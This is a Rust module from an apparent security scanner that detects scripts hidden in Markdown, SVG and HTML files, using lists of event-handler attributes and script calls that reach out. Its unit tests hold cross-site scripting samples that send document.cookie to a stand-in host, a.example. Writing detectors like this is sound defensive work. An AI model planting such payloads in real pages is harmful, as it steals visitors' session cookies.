//! Scripts in pictures, pages and documents, which run in the browser of whoever looks at them.
//!
//! Documents in Markdown hold HTML as it is; what stands there as an example, between fences or in quotes for code, is
//! passed over. Not looked at: whether the program that shows the document lets scripts through.

use super::hostile_script;
use crate::inspect::wording::CODE_IN_DATA;
use crate::inspect::{Scope, lines};
use crate::model::{Evidence, Severity};
use crate::weigh::View;

/// Attributes in which a script stands.
static HANDLERS: [&str; 7] =
    [" onerror=", " onload=", " onclick=", " onmouseover=", " onfocus=", " ontoggle=", "javascript:"];

/// What a script in an attribute reaches out with.
static REACHES: [&str; 10] = [
    "fetch(",
    "xmlhttprequest",
    "sendbeacon(",
    "new image",
    "eval(",
    "import(",
    "document.cookie",
    "localstorage",
    "atob(",
    "websocket(",
];

/// Bytes of a handler that are read.
const HANDLER: usize = 400;

/// Looks at a picture, page or document by its ending. Pages may well use cookies, pictures and documents have none.
pub fn page(name: &str, text: &str, view: &View<'_>, scope: &mut Scope<'_>) {
    let ending = name.rsplit_once('.').map_or("", |(_, ending)| ending);
    match ending {
        "md" | "markdown" | "mdx" | "rmd" => document(text, view, scope),
        "svg" | "html" | "htm" => {
            let lower = text.to_ascii_lowercase();
            let Some(at) = lower.find("<script") else { return };
            let Some(why) = hostile_script(&lower[at..]) else { return };
            if ending == "svg" || why.contains("decodes") {
                let message = format!("it holds a script, and {why}");
                lines::raise(Evidence::new(&CODE_IN_DATA, message), text, at..at + "<script".len(), view, scope);
            }
        }
        _ => {}
    }
}

fn document(text: &str, view: &View<'_>, scope: &mut Scope<'_>) {
    let has = |mark: &str| memchr::memchr(b'<', text.as_bytes()).is_some() && text.contains(mark);
    if !(has("=") || has("<script") || has("<SCRIPT")) {
        return;
    }
    let plain = without_examples(&text.to_ascii_lowercase());
    let script = plain.find("<script");
    let framed = plain.find(" srcdoc=");
    let handler = HANDLERS
        .iter()
        .find_map(|mark| plain.match_indices(mark).find(|(at, _)| in_tag(&plain, *at)).map(|(at, _)| at));
    let Some(at) = [script, framed, handler].into_iter().flatten().min() else { return };
    let reaches = HANDLERS.iter().flat_map(|mark| plain.match_indices(mark)).find_map(|(at, mark)| {
        let given = plain.get(at + mark.len()..plain.floor_char_boundary(at.saturating_add(HANDLER)))?;
        let given = given.lines().next().unwrap_or_default();
        let word = REACHES.iter().find(|word| given.contains(**word))?;
        in_tag(&plain, at).then_some((at, *word))
    });
    let why = plain.get(at..).and_then(hostile_script);
    let (message, severity, at) = match (why, reaches) {
        (Some(why), _) => (format!("the document holds a script, and {why}"), Severity::High, at),
        (None, Some((at, word))) => {
            (format!("the document holds a script in an attribute, which uses {word:?}"), Severity::High, at)
        }
        (None, None) => ("the document holds a script".to_owned(), Severity::Low, at),
    };
    lines::raise(Evidence::new(&CODE_IN_DATA, message).rated(severity), text, at..at + 8, view, scope);
}

/// True for a place behind the beginning of a tag that is still open.
fn in_tag(text: &str, at: usize) -> bool {
    let from = text.floor_char_boundary(at.saturating_sub(HANDLER));
    let before = text.get(from..at).unwrap_or_default();
    before.rfind('<').is_some_and(|open| {
        let tag = before.get(open + 1..).unwrap_or_default();
        tag.starts_with(|c: char| c.is_ascii_alphabetic()) && !tag.contains('>')
    })
}

/// The text with blanks for what stands between fences or in quotes for code; offsets stay as they are.
fn without_examples(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut fenced: Option<&str> = None;
    for line in text.split_inclusive('\n') {
        let begin = line.trim_start();
        let fence = ["```", "~~~"].into_iter().find(|fence| begin.starts_with(fence));
        let example = fenced.is_some() || fence.is_some() || line.starts_with("    ") || line.starts_with('\t');
        match (fenced, fence) {
            (None, Some(fence)) => fenced = Some(fence),
            (Some(open), Some(fence)) if open == fence => fenced = None,
            _ => {}
        }
        let mut code = false;
        // A quote that nothing closes is one of the letters.
        let ticks = line.matches('`').count() / 2 * 2;
        let mut seen = 0;
        for byte in line.chars() {
            if byte == '`' && seen < ticks {
                seen += 1;
                code = !code;
            }
            if (example || code) && byte != '\n' {
                (0..byte.len_utf8()).for_each(|_| plain.push(' '));
            } else {
                plain.push(byte);
            }
        }
    }
    plain
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{ArtifactPath, Limits};

    fn worst(text: &str) -> Option<Severity> {
        let (path, limits) = (ArtifactPath::new("README.md"), Limits::default());
        View::with_bytes(text.as_bytes(), 1 << 20, |view| {
            let mut scope = Scope::new(&path, &limits);
            page("readme.md", text, view, &mut scope);
            scope.close().evidence.iter().map(Evidence::severity).max()
        })
    }

    #[test]
    fn scripts_in_documents() {
        assert_eq!(worst("<img src=x onerror=\"fetch('http://a.example/?'+document.cookie)\">"), Some(Severity::High));
        assert_eq!(worst("<script>new Image().src='//a.example/'+document.cookie</script>"), Some(Severity::High));
        assert_eq!(worst("<script async src=\"https://a.example/chart.js\"></script>"), Some(Severity::Low));
        assert_eq!(worst("Use `<script>` and\n```html\n<img onerror=\"eval(name)\">\n```\n"), None);
        assert_eq!(worst("a < b, c onload=fetch(x)\n"), None);
        assert_eq!(worst("` <script>new Image().src='//a.example/'+document.cookie</script>"), Some(Severity::High));
    }
}
